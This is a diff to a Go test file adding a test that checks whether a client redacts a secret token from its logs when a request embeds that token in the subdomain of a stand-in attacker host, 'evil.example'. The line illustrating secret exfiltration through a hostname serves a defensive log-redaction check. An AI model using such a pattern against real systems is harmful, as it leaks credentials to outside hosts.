@@ -224,6 +224,24 @@ func TestSecretsWhereServersPutThem(t *testing.T) {
 	}
 }
 
+// TestLogOfAnOutageHasNoSecret: an image's address has our token for its host, which does not answer.
+func TestLogOfAnOutageHasNoSecret(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		const token = "opaqueCANARY0123"
+		var log bytes.Buffer
+		c := New(Config{
+			BaseURL: base, Secrets: []string{token}, Log: slog.New(slog.NewTextHandler(&log, nil)),
+			Transport: roundTripper(func(r *http.Request) (*http.Response, error) {
+				return nil, &net.OpError{Op: "dial", Err: &net.DNSError{Name: r.URL.Host, Err: "no such host"}}
+			}),
+		})
+		_, _, _ = c.Bytes(t.Context(), Request{Path: "http://" + token + ".evil.example/x"})
+		if text := log.String(); !strings.Contains(text, "host http://***.evil.example does not answer; trying on") || strings.Contains(text, "CANARY") {
+			t.Errorf("the log says %s", text)
+		}
+	})
+}
+
 // TestHintIsLegible: what we add to an error is not taken for a URL that hides something.
 func TestHintIsLegible(t *testing.T) {
 	srv := httptest.NewServer(text(200, "[]"))
